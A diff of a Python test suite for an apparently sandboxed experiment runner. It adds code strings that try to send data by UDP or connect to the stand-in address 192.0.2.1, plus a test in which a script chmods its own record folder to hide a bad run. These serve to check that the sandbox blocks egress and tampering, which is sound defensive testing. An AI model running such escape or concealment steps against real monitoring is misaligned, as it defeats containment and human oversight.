@@ -132,6 +132,8 @@ CHEATS = {
 }
 DOWNLOADS = {
     "sent": "import socket; socket.socket(type=socket.SOCK_DGRAM).sendto(b'give', ('192.0.2.1', 80)); save()",
+    "sent as a message": "import socket\n"
+    "socket.socket(type=socket.SOCK_DGRAM).sendmsg([b'give'], [], 0, ('192.0.2.1', 80)); save()",
     "downloaded": "import socket; socket.create_connection(('192.0.2.1', 80), timeout=1); save()",
 }
 
@@ -243,7 +245,7 @@ def test_a_judge_who_is_killed_leaves_a_lap_that_counts(home, run, write, monkey
     (left,) = home.glob("1*")
     assert {path.name for path in left.iterdir()} == {"record.json", "code", "run", "versions", "hidden"}
     lap = run("save()")
-    first, _ = records.read_laps(home)
+    (first,) = (one for one in records.read_laps(home) if one["lap"] == left.name)
     assert first["failed"] == "the judge was ended before the lap" and lap["previous"] == first["sha256"]
     assert list_all(left) == ["code", "code/race.py", "record.json"]
     assert len(read_entries([home])[0][0].laps) == 2
@@ -349,6 +351,21 @@ def test_without_a_threshold_for_its_data_set_lab_15_races_on_shapes10(
     assert lap["data"]["name"] == "shapes10" and lap["threshold"] == 0.5
     with pytest.raises(LabError, match="No threshold is set for cinic10"):
         race.run_lap(BASELINE, SHORT, show=False)
+
+
+def test_a_name_is_no_address_of_this_machine():
+    found = [sealed.is_loopback(host) for host in ("127.0.0.1", "127.9.9.9", "::1", "127.example.org", "192.0.2.1")]
+    assert found == [True, True, True, False, False]
+
+
+def test_a_script_cannot_hide_the_folder_of_a_bad_lap(home, run):
+    first = run("save()")
+    hidden = home / first["lap"]
+    (hidden / "record.json").chmod(0)
+    hidden.chmod(0)
+    lap = run("save()")
+    assert hidden.stat().st_mode & 0o777 == 0o755 and (hidden / "record.json").stat().st_mode & 0o777 == 0o644
+    assert lap["previous"] == first["sha256"]
 
 
 def test_each_record_names_the_one_before(home, run):
